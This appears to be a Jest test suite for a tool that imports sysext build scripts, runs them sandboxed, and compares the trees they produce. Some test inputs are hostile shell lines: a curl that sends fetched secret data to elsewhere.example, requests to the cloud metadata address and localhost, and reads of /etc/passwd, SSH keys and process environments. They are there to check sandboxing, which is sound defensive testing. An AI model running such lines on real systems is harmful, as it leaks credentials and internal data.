import { createHash } from 'node:crypto';
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { tarGzOf } from '@bakery/testbed/archives.ts';
import { exampleBakery, type ExampleBakery } from '@bakery/testbed/example-bakery.ts';
import { runBakery } from './run-bakery.ts';

let bakery: ExampleBakery;
beforeAll(async () => {
  bakery = await exampleBakery();
  const releases = ['v1.1.0', 'v1.0.0'].map((tag) => ({
    tag_name: tag,
    prerelease: false,
    draft: false,
    assets: [],
  }));
  bakery.serve('api.github.com/repos/example/tool/releases', JSON.stringify(releases));
  for (const version of ['v1.0.0', 'v1.1.0']) {
    for (const arch of ['amd64', 'arm64']) {
      const archive = tarGzOf([
        { path: `tool-${arch}/bin/tool`, content: `#!/bin/sh\necho ${version} ${arch}\n`, mode: 0o755 },
        { path: `tool-${arch}/share/doc/tool/README`, content: 'read me\n', mode: 0o644 },
      ]);
      const file = `dl.example/tool/${version}/tool-${arch}.tar.gz`;
      bakery.serve(file, archive);
      bakery.serve(
        `${file}.sha256`,
        `${createHash('sha256').update(archive).digest('hex')}  tool-${arch}.tar.gz\n`,
      );
    }
  }
});
afterAll(async () => bakery[Symbol.asyncDispose]());

const download = `
  local go="$(arch_transform x86-64 amd64 "$2")" url
  url="https://dl.example/tool/$3/tool-$go.tar.gz"
  curl --fail --silent --location --remote-name-all "$url" "$url.sha256"
  sha256sum --check "tool-$go.tar.gz.sha256"`;

/** Writes a script that fills the tree `$1` by these lines, and imports it. */
async function importing(name: string, lines: string, ...args: readonly string[]) {
  await bakery.write(
    `scripts/${name}.sysext/create.sh`,
    `list_available_versions() { list_github_releases example tool; }
populate_sysext_root() {${lines}
}
`,
  );
  return runBakery(bakery, ['import', `scripts/${name}.sysext`, ...args]);
}

async function readme(name: string): Promise<string> {
  return readFile(join(bakery.folder, 'recipes', name, 'README.md'), 'utf8');
}

describe('bakery import', () => {
  it('builds both ways, two versions for both architectures, and finds the same trees', async () => {
    const { code, stderr } = await importing(
      'same',
      `${download}
  mkdir -p "$1/usr/bin"
  tar -xf "tool-$go.tar.gz"
  cp "tool-$go/bin/tool" "$1/usr/bin/"
  ln -s tool "$1/usr/bin/same"`,
    );
    const same = 'by the script and by the recipe: the same 4 paths';
    const cells = ['v1.1.0', 'v1.0.0'].flatMap((one) => [`${one} for x86-64`, `${one} for arm64`]);
    expect(stderr).toContain(cells.map((cell) => `trees of ${cell}, ${same}\n`).join(''));
    expect(code).toBe(0);
    expect(await readme('same')).not.toContain('trees');
    expect(await readdir(bakery.tmpdir)).toEqual([]);
  });

  it('tells every difference: what one of them lacks, kinds, modes, links and bytes', async () => {
    const { code, stdout } = await importing(
      'other',
      `${download}
  mkdir -p "$1/usr/bin" "$1/usr/share/other"
  tar -xf "tool-$go.tar.gz" -C "$1/usr" --strip-components=1
  sed -i s/echo/printf/ "$1/usr/bin/tool"
  rm "$1/usr/share/doc/tool/README"
  if ! grep -q bakery-import "tool-$go.tar.gz"; then
    chmod 0700 "$1/usr/share/other"
    ln -s /real "$1/usr/share/link"
    echo real >"$1/usr/share/text"
    mkdir "$1/usr/share/kind"
    echo more >"$1/usr/share/more"
  else
    ln -s /draft "$1/usr/share/link"
    echo draft >"$1/usr/share/text"
    echo draft >"$1/usr/share/kind"
  fi`,
      '--json',
    );
    expect(code).toBe(0);
    const told: unknown = JSON.parse(stdout);
    expect(told).toMatchObject({
      trees: [
        {
          version: 'v1.1.0',
          arch: 'x86-64',
          fetched: [
            'https://dl.example/tool/v1.1.0/tool-amd64.tar.gz',
            'https://dl.example/tool/v1.1.0/tool-amd64.tar.gz.sha256',
          ],
          onlyScript: [
            expect.objectContaining({ path: '/usr/share/more', kind: 'file', mode: 0o644, size: 5 }),
          ],
          onlyRecipe: [expect.objectContaining({ path: '/usr/share/doc/tool/README' })],
          changed: [
            { path: '/usr/bin/tool', size: [30, 28], sha256: [expect.any(String), expect.any(String)] },
            { path: '/usr/share/kind', kind: ['directory', 'file'], mode: [0o755, 0o644], size: [0, 6] },
            { path: '/usr/share/link', target: ['/real', '/draft'] },
            { path: '/usr/share/other', mode: [0o700, 0o755] },
            { path: '/usr/share/text', size: [5, 6], sha256: [expect.any(String), expect.any(String)] },
          ],
        },
        { version: 'v1.1.0', arch: 'arm64' },
        { version: 'v1.0.0', arch: 'x86-64' },
        { version: 'v1.0.0', arch: 'arm64' },
      ],
    });
    const left = [
      'trees: /usr/share/more: only the script makes it, a file of 5 B, mode 0644',
      'trees: /usr/share/doc/tool/README: only the recipe makes it, a file of 8 B, mode 0644',
      'trees: /usr/bin/tool: 30 B by the script, 28 B by the recipe',
      'trees: /usr/share/link: link to /real by the script, /draft by the recipe',
      'trees: /usr/share/other: mode 0700 by the script, 0755 by the recipe',
    ];
    expect(told).toMatchObject({ left: expect.arrayContaining(left) });
    const text = await readme('other');
    for (const line of left) expect(text).toContain(`- FILL-IN: ${line}\n`);
  });

  it('says which version and architecture a difference is of, and what could not be compared', async () => {
    const { code, stderr } = await importing(
      'uneven',
      `${download}
  mkdir -p "$1/usr/bin"
  tar -xf "tool-$go.tar.gz"
  cp "tool-$go/bin/tool" "$1/usr/bin/"
  if [[ $(cat "$1/usr/bin/tool") == *"v1.0.0 amd64" ]]; then echo old >"$1/usr/bin/old"; fi
  if [[ $(cat "$1/usr/bin/tool") == *"v1.1.0 arm64" ]]; then echo 'no arm for you' >&2; return 4; fi`,
      '--like',
      'v1.0.0',
      'v1.1.0',
    );
    expect(code).toBe(0);
    const same = 'by the script and by the recipe: the same 3 paths\n';
    expect(stderr).toContain(
      'trees of v1.0.0 for x86-64, by the script and by the recipe: 1 paths different, 3 the same\n' +
        `trees of v1.0.0 for arm64, ${same}trees of v1.1.0 for x86-64, ${same}trees of v1.1.0 for arm64: not compared\n`,
    );
    const text = await readme('uneven');
    expect(text).toContain(
      'trees: /usr/bin/old: only the script makes it, a file of 4 B, mode 0644 (v1.0.0 for x86-64)\n',
    );
    expect(text).toMatch(/trees: not compared: .*saying "no arm for you" \(v1\.1\.0 for arm64\)\n/);
  });

  it('takes the newest version of a second product from the same answers', async () => {
    bakery.serve('api.github.com/repos/example/tool/releases/latest', JSON.stringify({ tag_name: 'v1.1.0' }));
    bakery.serve('raw.example/v1.0.0/third-version', 'v1.1.0\n');
    const { stderr } = await importing(
      'second',
      `${download}
  mkdir -p "$1/usr/bin" "$1/usr/share"
  tar -xf "tool-$go.tar.gz" -C "$1/usr/bin" --strip-components=2 "tool-$go/bin/tool"
  local second
  second="$(curl -fsSL https://api.github.com/repos/example/tool/releases/latest | jq -r .tag_name)"
  curl -fsSLo second.tgz "https://dl.example/tool/$second/tool-$go.tar.gz"
  tar -xf second.tgz
  cp "tool-$go/bin/tool" "$1/usr/bin/second"
  curl -fsSL "https://dl.example/tool/$(curl -fsSL "https://raw.example/$3/third-version")/tool-$go.tar.gz" |
    tar -xz -C "$1/usr/share" --strip-components=2 "tool-$go/share/doc"`,
      '--like',
      'v1.0.0',
      '--arch',
      'arm64',
    );
    expect(stderr).toContain(
      'trees of v1.0.0 for arm64, by the script and by the recipe: the same 8 paths\n',
    );
  });

  it.each([
    [
      'carries an answer away',
      'curl -fsSL "https://elsewhere.example/$(cat tool.txt | tr -d "\\n" | head -c 60)"',
    ],
    [
      'carries an answer away once it has it',
      'if grep -q secret tool.txt; then curl -fsSL "https://dl.example/$(cut -c1-9 tool.txt)"; fi',
    ],
    ['asks without TLS', 'curl -fsSL http://dl.example/tool.txt'],
    ['asks an address of this network', 'curl -fsSL https://169.254.169.254/latest/meta-data/'],
    ['asks this machine', 'curl -fsSL https://localhost/'],
  ])('fetches nothing for a script that %s', async (what, line) => {
    const name = what.toLowerCase().replaceAll(' ', '-');
    bakery.serve('dl.example/tool.txt', `${'secret'.repeat(20)}\n`);
    const before = bakery.upstream.requests.length;
    const { code, stderr } = await importing(
      name,
      `
  mkdir -p "$1/usr/share"
  curl -fsSLo tool.txt https://dl.example/tool.txt
  ${line} >"$1/usr/share/$RANDOM" || true
  cp tool.txt "$1/usr/share/tool"`,
      '--like',
      'v1.0.0',
    );
    expect(stderr).toMatch(/^left to decide: trees: not compared: /m);
    expect(stderr).toMatch(/^trees( of v1\.0\.0 for x86-64)?: not compared$/m);
    expect(code).toBe(0);
    const asked = bakery.upstream.requests.slice(before).map(({ url }) => url);
    expect(
      asked.filter((url) => !url.startsWith('/api.github.com/') && url !== '/dl.example/tool.txt'),
    ).toEqual([]);
  });

  it('shows a script that runs for real nothing of this machine, and lets it change nothing', async () => {
    const { stderr } = await importing(
      'curious',
      `
  local port="${new URL(bakery.upstream.url).port}"
  mkdir -p "$1/usr/share"
  cat /etc/passwd /root/.ssh/* /proc/1/environ >"$1/usr/share/secret" 2>/dev/null || true
  { exec 3<>"/dev/tcp/127.0.0.1/$port"; } 2>/dev/null && echo reached >"$1/usr/share/network"
  echo mine >>"$scriptroot/curious.sysext/create.sh" || true
  echo mine >/usr/bin/mine || true
  curl -fsSLo "$1/usr/share/tool" "https://dl.example/tool/$3/tool-amd64.tar.gz"`,
    );
    expect(stderr).toContain('by the script and by the recipe: the same');
    const text = await readFile(join(bakery.folder, 'scripts/curious.sysext/create.sh'), 'utf8');
    expect(text).not.toContain('\nmine\n');
    expect(await readFile(join(bakery.folder, 'recipes/curious/recipe.yaml'), 'utf8')).not.toContain(
      'network',
    );
  });

  it('says why nothing is compared', async () => {
    const missing = await importing(
      'missing',
      `
  mkdir -p "$1/usr/bin"
  curl -fsSLo "$1/usr/bin/tool" "https://dl.example/nowhere/$3"`,
    );
    expect(missing.stderr).toMatch(
      /^left to decide: trees: not compared: .*nowhere\/v1\.1\.0: expected a file, got 404/m,
    );
    const before = bakery.upstream.requests.length;
    const skipped = await importing('skipped', download, '--no-compare');
    expect(skipped.stderr).toContain('left to decide: trees: not compared: --no-compare\n');
    expect(bakery.upstream.requests).toHaveLength(before);
  });
});
